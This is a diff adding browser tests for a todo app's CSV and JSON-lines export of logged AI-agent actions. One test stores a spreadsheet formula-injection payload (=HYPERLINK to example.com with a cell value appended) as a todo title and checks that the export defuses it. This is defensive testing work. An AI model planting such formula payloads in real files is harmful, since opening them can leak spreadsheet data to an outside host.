@@ -114,3 +114,61 @@ browserTest(
     expect(await news(130)).toEqual([]);
   },
 );
+
+browserTest(
+  "what the filter shows can be had as CSV that no spreadsheet takes for formulas, and as JSON lines",
+  async () => {
+    const { page, token, call, open } = await personWithAgent();
+    const evil = `=HYPERLINK("http://example.com/"&A1,"Rent")`;
+    await call("create-todo", { title: evil });
+    await call("get-pending-todos");
+    await call("delete-todo", { todo_id: 404 });
+    await site.stack.rest("PATCH", "/todos/404", { token, body: { title: "+1" } });
+    await open("?show=all");
+    const [csvLink, jsonLink] = await page.locator("a[href*=export]").all();
+    const download = async (link: typeof csvLink) =>
+      page.request.get(`${baseUrl}${await link?.getAttribute("href")}`);
+
+    const csv = await download(csvLink);
+    expect(csv.headers()["content-disposition"]).toMatch(
+      /^attachment; filename="kept-actions-[\d-]{10}\.csv"$/,
+    );
+    const cells = (await csv.text()).split(/\r\n|","/);
+    expect(cells).toContain(`'${evil.replaceAll('"', '""')}`);
+    expect(cells).toContain(`Created the todo “${evil.replaceAll('"', '""')}”`);
+    expect(cells.filter((cell) => /^"?\s*[=+@-]/.test(cell))).toEqual([]);
+
+    const lines = (await (await download(jsonLink)).text()).trimEnd().split("\n");
+    expect(
+      lines.map((line) => JSON.parse(line)).map(({ tool, outcome, what }) => [tool, outcome, what]),
+    ).toEqual([
+      ["todo.update", "not_found", "Tried to change the todo 404"],
+      ["delete-todo", "not_found", "Tried to delete the todo 404"],
+      ["get-pending-todos", "ok", "Looked at the pending todos"],
+      ["create-todo", "ok", `Created the todo “${evil}”`],
+    ]);
+    expect(Object.values(JSON.parse(lines[3] ?? "").after)).toMatchObject([{ title: evil }]);
+    expect((await page.request.get(`${baseUrl}/account/actions/export?format=exe`)).status()).toBe(422);
+  },
+);
+
+browserTest("a file goes on along the list to its end, and its filters are those of the page", async () => {
+  const { page, token } = await personWithAgent();
+  for (let n = 0; n < 9; n++) {
+    const operations = Array.from({ length: 50 }, (_, i) => ({
+      method: "POST",
+      path: "/todos",
+      body: { title: `T${n}-${i}` },
+    }));
+    expect((await site.stack.rest("POST", "/batch", { token, body: { operations } })).status).toBe(200);
+  }
+  const file = async (query: string) =>
+    (await (await page.request.get(`${baseUrl}/account/actions/export?format=jsonl${query}`)).text()).split(
+      "\n",
+    );
+  const names = (await file("")).slice(0, -1).map((line) => JSON.parse(line).resource_name);
+  expect(new Set(names).size).toBe(450);
+  expect(names[0]).toBe("T8-49");
+  expect((await file("&q=T3-")).length - 1).toBe(50);
+  expect(await file("&show=refusals")).toEqual([""]);
+});
